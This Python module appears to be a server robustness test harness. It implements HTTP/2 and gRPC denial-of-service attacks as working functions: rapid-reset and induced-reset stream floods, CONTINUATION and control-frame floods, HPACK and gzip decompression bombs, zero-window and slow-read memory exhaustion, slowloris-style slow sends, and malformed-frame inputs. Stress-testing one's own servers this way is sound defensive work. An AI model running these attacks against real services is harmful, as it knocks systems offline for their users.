"""What no honest peer does, one function an attack. Each is given a connection that ends when its
time is over; it returns when it has done its worst, or raises `Closed` when the server ended it."""

import gzip
import time

from frames import (
    ACK, CLIENT_STREAM, CONTINUATION, Closed, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PADDED, PING,
    PRIORITY, REFLECTION, RST_STREAM, SETTINGS, UNARY, WINDOW_UPDATE, call, data, frame, head,
    message, opening, word,
)

ODD = range(1, 200_001, 2)


def flood(peer, burst):
    """The same bytes, again and again; the connection must bear it or end."""
    while not peer.is_over:
        peer.send(burst)
        peer.drop_input()


def streams(peer, make, each=100):
    """A burst of new streams, again and again."""
    peer.send(opening())
    numbers = iter(ODD)
    while not peer.is_over:
        burst = b"".join(make(stream) for _, stream in zip(range(each), numbers))
        if not burst:
            return
        peer.send(burst)
        peer.drop_input()


# --- Resets --------------------------------------------------------------------------------------


def rapid_reset(peer):
    """Calls that are given up at once."""
    block = head()
    streams(peer, lambda stream: frame(HEADERS, END_HEADERS, stream, block)
            + frame(RST_STREAM, 0, stream, word(8)))


def rapid_reset_of_whole_calls(peer):
    """Complete calls that are given up at once, so that handlers start."""
    streams(peer, lambda stream: call(stream) + frame(RST_STREAM, 0, stream, word(8)))


def made_you_reset(provoke, end=0):
    def attack(peer):
        block = head()
        streams(peer, lambda stream: frame(HEADERS, END_HEADERS | end, stream, block)
                + provoke(stream))
    return attack


MADE_YOU_RESET = {
    "made_you_reset_window_zero":
        made_you_reset(lambda stream: frame(WINDOW_UPDATE, 0, stream, word(0))),
    "made_you_reset_window_overflow":
        made_you_reset(lambda stream: frame(WINDOW_UPDATE, 0, stream, word(0x7FFFFFFF))),
    "made_you_reset_priority_length":
        made_you_reset(lambda stream: frame(PRIORITY, 0, stream, b"\0" * 4)),
    "made_you_reset_priority_self":
        made_you_reset(lambda stream: frame(PRIORITY, 0, stream, word(stream) + b"\x10")),
    "made_you_reset_data_after_end":
        made_you_reset(lambda stream: frame(DATA, 0, stream, b"x"), END_STREAM),
    "made_you_reset_headers_after_end":
        made_you_reset(
            lambda stream: frame(HEADERS, END_HEADERS | END_STREAM, stream, head()), END_STREAM),
}

# --- Headers -------------------------------------------------------------------------------------


def continuation_flood(peer):
    """Headers that never end."""
    peer.send(opening() + frame(HEADERS, 0, 1, head()))
    flood(peer, frame(CONTINUATION, 0, 1, b"\0\x01a\x01b" * 100) * 50)


def empty_continuation_flood(peer):
    """Headers that never end and never grow."""
    peer.send(opening() + frame(HEADERS, 0, 1, head()))
    flood(peer, frame(CONTINUATION, 0, 1) * 5_000)


def hpack_bomb(peer):
    """Few bytes that unpack to megabytes, in call after call."""
    fill = b"\x40\x01x\x7f\xa1\x1e" + b"v" * 4000
    peer.send(opening() + frame(HEADERS, END_HEADERS | END_STREAM, 1, head() + fill))
    numbers = iter(ODD)
    next(numbers)
    while not peer.is_over:
        peer.send(b"".join(
            frame(HEADERS, END_HEADERS | END_STREAM, stream, head() + b"\xbe" * 12_000)
            for _, stream in zip(range(10), numbers)))
        peer.drop_input()


def many_fields(peer):
    """More fields than a call may have."""
    block = head() + b"\0\x01a\x01b" * 2_000
    streams(peer, lambda stream: frame(HEADERS, END_HEADERS | END_STREAM, stream, block), 20)


def comma_bomb(peer):
    """Thousands of values that commas join, in call after call whose bodies never come."""
    fill = b"\x40\x05a-bin\x7f\xbd\x1d" + b"," * 3900
    peer.send(opening() + frame(HEADERS, END_HEADERS, 1, head() + fill))
    block = head() + b"\xbe" * 4
    peer.send(b"".join(frame(HEADERS, END_HEADERS, stream, block) for stream in range(3, 200, 2)))
    peer.wait_for_end()


def table_size_flood(peer):
    """Changes of the size of the header table, in every block and in SETTINGS."""
    peer.send(opening())
    numbers = iter(ODD)
    while not peer.is_over:
        burst = b""
        for _, stream in zip(range(20), numbers):
            burst += frame(SETTINGS, 0, 0, b"\0\x01" + word(stream % 4096))
            burst += frame(HEADERS, END_HEADERS | END_STREAM, stream, b"\x3f\xe1\x1f" + head())
        peer.send(burst)
        peer.drop_input()


def slow_headers(peer):
    """Headers of which a byte comes now and then."""
    block = head() + b"\0\x01a\x7f\xff\x01" + b"b" * 200
    peer.send(opening() + frame(HEADERS, END_HEADERS, 1, block)[: len(block) - 190])
    while not peer.is_over:
        peer.read_some(0.2)
        peer.send(b"b")


def slow_preface(peer):
    """A preface of which a byte comes now and then."""
    for byte in opening():
        if peer.is_over:
            return
        peer.send(bytes([byte]))
        peer.read_some(0.3)


def silence(peer):
    """Nothing at all."""
    peer.wait_for_end()


# --- Floods of small frames ----------------------------------------------------------------------


def flood_of(burst, before=b""):
    def attack(peer):
        peer.send(opening() + before)
        flood(peer, burst)
    return attack


OPEN_CALL = frame(HEADERS, END_HEADERS, 1, head())
FLOODS = {
    "settings_flood": flood_of(frame(SETTINGS, 0, 0, b"\0\x04" + word(65535)) * 2_000),
    "empty_settings_flood": flood_of(frame(SETTINGS, 0, 0) * 5_000),
    "settings_ack_flood": flood_of(frame(SETTINGS, ACK, 0) * 5_000),
    "ping_flood": flood_of(frame(PING, 0, 0, b"12345678") * 3_000),
    "ping_ack_flood": flood_of(frame(PING, ACK, 0, b"12345678") * 3_000),
    "priority_flood": flood_of(
        b"".join(frame(PRIORITY, 0, s, word(0) + b"\x10") for s in range(1, 6_001, 2))),
    "empty_data_flood": flood_of(frame(DATA, 0, 1) * 5_000, OPEN_CALL),
    "padding_flood": flood_of(frame(DATA, PADDED, 1, b"\0") * 5_000, OPEN_CALL),
    "window_flood": flood_of(frame(WINDOW_UPDATE, 0, 0, word(1)) * 5_000),
    "stream_window_flood": flood_of(frame(WINDOW_UPDATE, 0, 1, word(1)) * 5_000, OPEN_CALL),
    "reset_of_closed_flood": flood_of(
        frame(RST_STREAM, 0, 1, word(8)) * 5_000, call(1)),
    "unknown_frame_flood": flood_of(frame(0xEE, 0, 0) * 5_000),
    "goaway_flood": flood_of(frame(GOAWAY, 0, 0, word(0) + word(0)) * 3_000),
    "tiny_messages_flood": flood_of(
        b"".join(frame(DATA, 0, 1, byte) for byte in (b"\0", b"\0", b"\0", b"\0", b"\0")) * 1_000,
        OPEN_CALL),
}


def calls_after_goaway(peer):
    """New calls after the farewell."""
    peer.send(opening() + frame(GOAWAY, 0, 0, word(0) + word(0)))
    numbers = iter(ODD)
    while not peer.is_over:
        peer.send(b"".join(call(stream) for _, stream in zip(range(50), numbers)))
        peer.drop_input()


# --- Memory --------------------------------------------------------------------------------------


def zero_window(peer):
    """Large answers are asked for on every stream, and no window is given for them."""
    peer.send(opening(b"\0\x04" + word(0)))
    body = b"x" * 64_000
    peer.send(b"".join(call(stream, body) for stream in range(1, 200, 2)))
    peer.wait_for_end()


def slow_read(peer):
    """Large answers are asked for and never read."""
    peer.send(opening(b"\0\x04" + word(0x7FFFFFFF)) + frame(WINDOW_UPDATE, 0, 0, word(0x7FFF0000)))
    body = b"x" * 64_000
    for stream in range(1, 2_000, 2):
        if peer.is_over:
            return
        peer.send(call(stream, body))
    time.sleep(max(0, peer.until - time.monotonic()))


def unfinished_bodies(path, size):
    """Every stream has most of a large message, and no more: all that the server's windows allow,
    since whoever breaks them is ended for that."""
    def attack(peer):
        body = message(b"x" * size)[:-1]
        sent = dict.fromkeys(range(1, 200, 2), 0)
        window = 65_535
        room = {0: 65_535}
        peer.send(opening() + frame(SETTINGS, ACK, 0) + b"".join(
            frame(HEADERS, END_HEADERS, stream, head(path)) for stream in sent))
        while not peer.is_over:
            for stream, at in sent.items():
                allowed = min(16_384, room[0], window + room.get(stream, 0) - at)
                piece = body[at : at + max(0, allowed)]
                if piece:
                    peer.send(frame(DATA, 0, stream, piece))
                    sent[stream] += len(piece)
                    room[0] -= len(piece)
            peer.read_some(0.02)
            for kind, flags, stream, payload in peer.frames():
                if kind == WINDOW_UPDATE:
                    room[stream] = room.get(stream, 0) + int.from_bytes(payload, "big")
                elif kind == SETTINGS and not flags & ACK:
                    values = {payload[at + 1]: int.from_bytes(payload[at + 2 : at + 6], "big")
                              for at in range(0, len(payload), 6)}
                    window = values.get(4, window)
                elif kind in (RST_STREAM, HEADERS):
                    # Refused: nothing more of it.
                    sent[stream] = len(body)
    return attack


def heads_alone(peer):
    """Every stream has nearly as many words of metadata as a call may have, and no request."""
    words = [(f"word-{number:02}", "x" * 120) for number in range(58)]
    peer.send(opening() + b"".join(
        frame(HEADERS, END_HEADERS, stream, head(UNARY, words)) for stream in range(1, 200, 2)))
    peer.wait_for_end()


def slow_body(peer):
    """Bodies of which a byte comes now and then, on every stream."""
    peer.send(opening() + b"".join(
        frame(HEADERS, END_HEADERS, stream, head()) + frame(DATA, 0, stream, b"\0\0\0\0\x7f")
        for stream in range(1, 200, 2)))
    while not peer.is_over:
        peer.read_some(0.2)
        peer.frames()
        peer.send(b"".join(frame(DATA, 0, stream, b"x") for stream in range(1, 200, 2)))


def gzip_bombs(path):
    """Compressed messages, each a thousand times larger when unpacked."""
    packed = gzip.compress(bytes(1 << 20), mtime=0)
    body = (b"\1" + word(len(packed)) + packed) * 55
    block = head(path, [("grpc-encoding", "gzip")])

    def attack(peer):
        streams(peer, lambda stream: frame(HEADERS, END_HEADERS, stream, block)
                + data(stream, body, end=False), 1)
    return attack


# --- Wrong frames --------------------------------------------------------------------------------

WRONG = [
    opening() + b"\xff\xff\xff\0\0\0\0\0\x01" + b"x" * 1000,
    opening() + frame(SETTINGS, 0, 0, b"\0" * 5),
    opening() + frame(SETTINGS, 0, 1),
    opening() + frame(SETTINGS, ACK, 0, b"\0" * 6),
    opening() + frame(PING, 0, 0, b"short"),
    opening() + frame(DATA, 0, 0, b"x"),
    opening() + frame(DATA, 0, 7, b"x"),
    opening() + frame(HEADERS, END_HEADERS, 2, head()),
    opening() + frame(HEADERS, 0, 1, head()) + frame(PING, 0, 0, b"12345678"),
    opening() + frame(CONTINUATION, END_HEADERS, 1, b""),
    opening() + frame(HEADERS, END_HEADERS, 1, b"\xff" * 20),
    opening() + frame(DATA, PADDED, 1, b"\xff"),
    opening() + frame(WINDOW_UPDATE, 0, 0, word(0)),
    opening() + frame(WINDOW_UPDATE, 0, 0, word(0x7FFFFFFF)),
    opening() + frame(RST_STREAM, 0, 9, word(8)),
    opening() + frame(5, END_HEADERS, 1, word(2) + head()),
    opening() + frame(GOAWAY, 0, 3, word(0) + word(0)),
    opening(b"\0\x02" + word(7)),
    opening(b"\0\x04" + word(0xFFFFFFFF)),
    opening(b"\0\x05" + word(1)),
    b"GET / HTTP/1.1\r\nHost: x\r\n\r\n",
    b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"\0" * 600,
    b"PRI * HTTP/2.0\r\n\r\nXX\r\n\r\n" + b"\0" * 100,
    b"\0" * 1000,
]


def wrong(bytes_sent):
    def attack(peer):
        peer.send(bytes_sent)
        peer.wait_for_end()
    return attack


# --- Many connections ----------------------------------------------------------------------------


def every_byte(connect):
    """A request that breaks off after each of its bytes, with a farewell and without."""
    whole = opening() + frame(SETTINGS, ACK, 0) + call(1)
    for count in range(len(whole) + 1):
        for abort in (False, True):
            peer = connect()
            try:
                peer.send(whole[:count])
                peer.abort() if abort else peer.close()
            except Closed:
                peer.close()
            if peer.is_over:
                return count
    return len(whole)


ATTACKS = {
    "rapid_reset": rapid_reset,
    "rapid_reset_of_whole_calls": rapid_reset_of_whole_calls,
    **MADE_YOU_RESET,
    "continuation_flood": continuation_flood,
    "empty_continuation_flood": empty_continuation_flood,
    "hpack_bomb": hpack_bomb,
    "many_fields": many_fields,
    "comma_bomb": comma_bomb,
    "table_size_flood": table_size_flood,
    **FLOODS,
    "calls_after_goaway": calls_after_goaway,
    "zero_window": zero_window,
    "slow_read": slow_read,
    "unfinished_bodies": unfinished_bodies(UNARY, 250_000),
    "unfinished_bodies_on_streams": unfinished_bodies(CLIENT_STREAM, 1_000_000),
    "unfinished_bodies_on_reflection": unfinished_bodies(REFLECTION, 1_000_000),
    "heads_alone": heads_alone,
    "gzip_bombs": gzip_bombs(UNARY),
    "gzip_bombs_on_streams": gzip_bombs(REFLECTION),
    "slow_body": slow_body,
    "slow_headers": slow_headers,
    "slow_preface": slow_preface,
    "silence": silence,
}
